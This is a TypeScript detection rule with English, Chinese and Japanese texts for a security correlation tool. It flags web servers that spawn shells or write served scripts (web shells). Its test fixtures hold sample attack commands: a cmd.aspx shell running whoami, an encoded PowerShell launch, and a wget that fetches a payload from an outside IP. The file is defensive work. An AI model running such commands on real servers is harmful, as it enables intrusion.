import type { DetectionLevel } from '../../model/detection.ts'
import { baseName } from '../../normalise/path.ts'
import { dayOf } from '../accounts.ts'
import { fileOn, ipEntity, proofOf } from '../drafts.ts'
import { exampleEvent, exampleGuid } from '../example.ts'
import type { EntityDraft, EntityHandle, Find, Rule } from '../rule.ts'
import { isServedScript, isWebServer, shellOf } from '../web-servers.ts'
import { type Answered, WebRequests } from '../web-requests.ts'
import type { CorrelationView, ViewEvent } from '../view.ts'

/** A request of the same second to the very script, or to a script while nothing else was asked for. */
const WITH_REQUEST = 0.92
const MAX_INVOLVED = 40
const MAX_PROOFS = 60

const SERVER = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'
const started = (seconds: number, processPath: string, commandLine: string) =>
  exampleEvent('process-start', seconds, {
    processPath,
    commandLine,
    pid: 4000 + Math.round(seconds),
    processGuid: exampleGuid(100 + Math.round(seconds)),
    parentPath: SERVER,
    parentPid: 900,
    parentGuid: exampleGuid(10),
    parentCommandLine: 'w3wp.exe -ap "portal"',
  })

const rule: Rule = {
  id: 'process.web-shell',
  order: 59,
  relations: [],
  detections: ['shell', 'script-written'],
  attack: ['T1505.003', 'T1190'],
  attackOf: { shell: ['T1505.003'], 'script-written': ['T1505.003'] },
  texts: {
    en: {
      title: 'Web servers that start shells (web shell)',
      description:
        'The process of a web server (IIS, Apache, nginx, PHP, Tomcat and other Java servers) started a shell, a script host or a program that looks around, or wrote a script into a folder it serves. Joined to the request of the same second where the log of the server has one. Told once a day for each server process.',
      needs:
        'Process start records with the parent, file creation records; the log of the web server (W3C of IIS and others) for who asked.',
      falsePositives:
        'Sites that call programs for pictures and mail by a shell, mostly on Linux (rated lower); content management systems that update their own scripts.',
      'detection.shell': 'A web server started a shell (web shell)',
      'detection.script-written': 'A web server wrote a script it serves (web shell)',
      'reason.shell':
        '{server} started {count} shell or script host, the first: {command} | {server} started {count} shells or script hosts, the first: {command}',
      'reason.shell_request':
        '{server} started {count} shell or script host, the first in answer to {method} {path} from {ip}: {command} | {server} started {count} shells or script hosts, the first in answer to {method} {path} from {ip}: {command}',
      'reason.written':
        '{server} wrote {count} script, the first: {file} | {server} wrote {count} scripts, the first: {file}',
      'reason.written_request':
        '{server} wrote {count} script, the first in answer to {method} {path} from {ip}: {file} | {server} wrote {count} scripts, the first in answer to {method} {path} from {ip}: {file}',
    },
    'zh-TW': {
      title: '網頁伺服器啟動殼層（Web Shell）',
      description:
        '網頁伺服器（IIS、Apache、nginx、PHP、Tomcat 與其他 Java 伺服器）的處理程序啟動了殼層、指令碼主機或偵查用程式，或將指令碼寫入其提供服務的資料夾。若伺服器記錄中有同一秒的要求，則一併相連。每個伺服器處理程序每天僅提示一次。',
      needs:
        '含父處理程序的處理程序啟動紀錄、檔案建立紀錄；另以網頁伺服器記錄（IIS 的 W3C 等）得知由誰要求。',
      falsePositives:
        '以殼層呼叫圖片或郵件程式的網站，多見於 Linux（等級較低）；更新自身指令碼的內容管理系統。',
      'detection.shell': '網頁伺服器啟動了殼層（Web Shell）',
      'detection.script-written': '網頁伺服器寫入了其提供服務的指令碼（Web Shell）',
      'reason.shell': '{server} 啟動了 {count} 個殼層或指令碼主機，第一個為：{command}',
      'reason.shell_request':
        '{server} 啟動了 {count} 個殼層或指令碼主機，第一個是回應來自 {ip} 的 {method} {path}：{command}',
      'reason.written': '{server} 寫入了 {count} 個指令碼，第一個為：{file}',
      'reason.written_request':
        '{server} 寫入了 {count} 個指令碼，第一個是回應來自 {ip} 的 {method} {path}：{file}',
    },
    ja: {
      title: 'シェルを起動した Web サーバー（Web シェル）',
      description:
        'Web サーバー（IIS、Apache、nginx、PHP、Tomcat などの Java サーバー）のプロセスが、シェル、スクリプトホスト、偵察用のプログラムを起動したか、公開フォルダーにスクリプトを書き込みました。サーバーのログに同じ秒のリクエストがあれば結び付けます。サーバープロセスごとに 1 日 1 件で示します。',
      needs:
        '親プロセスを含むプロセス起動とファイル作成の記録。誰が要求したかは Web サーバーのログ（IIS の W3C など）で分かります。',
      falsePositives:
        '画像やメールの処理をシェルで呼び出すサイト（主に Linux。レベルは低め）。自分のスクリプトを更新するコンテンツ管理システム。',
      'detection.shell': 'Web サーバーがシェルを起動した（Web シェル）',
      'detection.script-written': 'Web サーバーが公開するスクリプトを書き込んだ（Web シェル）',
      'reason.shell':
        '{server} がシェルまたはスクリプトホストを {count} 件起動しました。最初の 1 件：{command}',
      'reason.shell_request':
        '{server} がシェルまたはスクリプトホストを {count} 件起動しました。最初の 1 件は {ip} からの {method} {path} への応答です：{command}',
      'reason.written': '{server} がスクリプトを {count} 件書き込みました。最初の 1 件：{file}',
      'reason.written_request':
        '{server} がスクリプトを {count} 件書き込みました。最初の 1 件は {ip} からの {method} {path} への応答です：{file}',
    },
  },
  matches: [
    {
      title: 'IIS writes a page, and answers a request to it with a command',
      items: [
        exampleEvent('network-connection', -600, {
          sourceIp: '10.0.0.50',
          destinationIp: '10.0.0.2',
          action: 'outbound',
        }),
        exampleEvent('file-create', 0, {
          processPath: SERVER,
          pid: 900,
          processGuid: exampleGuid(10),
          target: 'C:\\inetpub\\wwwroot\\upload\\cmd.aspx',
        }),
        started(30, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami'),
        exampleEvent('http-request', 30, {
          host: undefined,
          hostIp: '10.0.0.50',
          destinationIp: '10.0.0.50',
          sourceIp: '203.0.113.90',
          action: 'inbound',
          httpMethod: 'POST',
          target: '/upload/cmd.aspx?c=whoami',
        }),
        exampleEvent('http-request', 30, {
          host: undefined,
          hostIp: '10.0.0.50',
          destinationIp: '10.0.0.50',
          sourceIp: '198.51.100.7',
          action: 'inbound',
          httpMethod: 'GET',
          target: '/index.aspx',
        }),
      ],
      finds: ['!script-written: w3wp.exe', '!shell: w3wp.exe'],
    },
    {
      title: 'Tomcat starts PowerShell, and PHP a shell that fetches',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          commandLine: 'powershell -enc AAAA',
          pid: 5,
          parentPath: 'C:\\Java\\bin\\java.exe',
          parentCommandLine: 'java -Dcatalina.base=C:\\tomcat org.apache.catalina.startup.Bootstrap start',
          parentPid: 4,
        }),
        exampleEvent('process-start', 0, {
          host: 'web.corp.example',
          processPath: '/bin/sh',
          commandLine: 'sh -c "wget -O /tmp/x http://203.0.113.9/x"',
          pid: 6,
          parentPath: '/usr/sbin/php-fpm8.2',
          parentPid: 3,
        }),
      ],
      finds: ['!shell: java.exe', '!shell: php-fpm8.2'],
    },
  ],
  ignores: [
    {
      title: 'the compiler of ASP.NET, a page of the cache, a build by Java, and an upload of a picture',
      items: [
        started(0, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'csc.exe /t:library'),
        exampleEvent('file-create', 1, {
          processPath: SERVER,
          pid: 900,
          target:
            'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\a.aspx.compiled',
        }),
        exampleEvent('file-create', 2, {
          processPath: SERVER,
          pid: 900,
          target: 'C:\\inetpub\\wwwroot\\upload\\cat.png',
        }),
        exampleEvent('process-start', 3, {
          processPath: 'C:\\Windows\\System32\\cmd.exe',
          commandLine: 'cmd /c gradlew test',
          pid: 5,
          parentPath: 'C:\\Java\\bin\\java.exe',
          parentCommandLine: 'java -jar gradle-wrapper.jar',
          parentPid: 4,
        }),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<Find> {
    const acts = [...listActs(view)]
    if (acts.length === 0) return
    const requests = new WebRequests(
      view,
      acts.map(({ event }) => event),
    )
    const scripts = new Set(
      acts.flatMap(({ file }) => (file === undefined ? [] : [baseName(file).toLowerCase()])),
    )
    for (const group of Map.groupBy(
      acts,
      ({ what, server, event }) => `${what}|${server.key}|${dayOf(event.at)}`,
    ).values())
      yield* tell(group, requests, scripts)
  },
}
export default rule

/** Something a web server did that it does not do by itself. */
interface Act {
  readonly what: 'shell' | 'script-written'
  readonly event: ViewEvent
  readonly server: EntityDraft
  readonly level: DetectionLevel
  readonly confidence: number
  readonly file: string | undefined
  /** The started process, or the written file. */
  readonly made: EntityHandle | undefined
}

function* listActs(view: CorrelationView): Generator<Act> {
  for (const event of view.events(
    ['process-start'],
    [
      'processPath',
      'commandLine',
      'pid',
      'processGuid',
      'parentPath',
      'parentCommandLine',
      'parentPid',
      'parentGuid',
    ],
  )) {
    const { processPath = '', commandLine = '', parentPath, parentCommandLine } = event.fields
    if (!isWebServer(parentPath, parentCommandLine)) continue
    const sign = shellOf(processPath, commandLine)
    const server = sign === undefined ? undefined : view.processes.parentOf(event)
    if (!sign || !server) continue
    const made = view.processes.actorOf(event)?.draft
    yield {
      what: 'shell',
      event,
      server: server.draft,
      ...sign,
      file: undefined,
      made,
    }
  }
  for (const event of view.events(
    ['file-create'],
    ['target', 'processPath', 'commandLine', 'pid', 'processGuid'],
  )) {
    const { target = '', processPath, commandLine } = event.fields
    if (event.endpointId === null || !isWebServer(processPath, commandLine)) continue
    const sign = isServedScript(target)
    const server = sign === undefined ? undefined : view.processes.actorOf(event)
    if (!sign || !server) continue
    yield {
      what: 'script-written',
      event,
      server: server.draft,
      ...sign,
      file: target,
      made: fileOn(view.entity(event.endpointId), target),
    }
  }
}

function* tell(group: readonly Act[], requests: WebRequests, scripts: ReadonlySet<string>): Generator<Find> {
  const order = group.toSorted((a, b) => (a.event.at ?? 0) - (b.event.at ?? 0))
  const [first] = order
  if (!first) return
  const answered = new Map<Act, Answered>()
  for (const act of order) {
    const request = requests.answeredBy(act.event, scripts)
    if (request) answered.set(act, request)
  }
  const own = answered.get(first)
  const best = order.reduce((one, other) => (other.confidence > one.confidence ? other : one), first)
  const { endpointId, fields } = first.event
  const reason = first.what === 'shell' ? 'shell' : 'written'
  yield {
    detection: first.what,
    level: best.level,
    subject: first.server,
    involved: [
      ...(endpointId === null ? [] : [endpointId]),
      ...[...new Set([...answered.values()].map(({ ip }) => ip))].map((ip) => ipEntity(ip)),
      ...order.slice(0, MAX_INVOLVED).flatMap(({ made }) => made ?? []),
    ],
    window: dayOf(first.event.at),
    at: first.event.at,
    until: order.at(-1)?.event.at ?? null,
    confidence: answered.size > 0 ? Math.max(best.confidence, WITH_REQUEST) : best.confidence,
    reason: own ? `${reason}_request` : reason,
    params: {
      server: first.server.name,
      count: order.length,
      command: (fields.commandLine ?? fields.processPath ?? '').slice(0, 200),
      file: first.file ?? '',
      ...(own ? { method: own.method, path: own.path.slice(0, 200), ip: own.ip } : {}),
    },
    proof: order
      .slice(0, MAX_PROOFS)
      .flatMap((act) => [...proofOf(act.event), ...(answered.get(act)?.proof ?? [])]),
  }
}
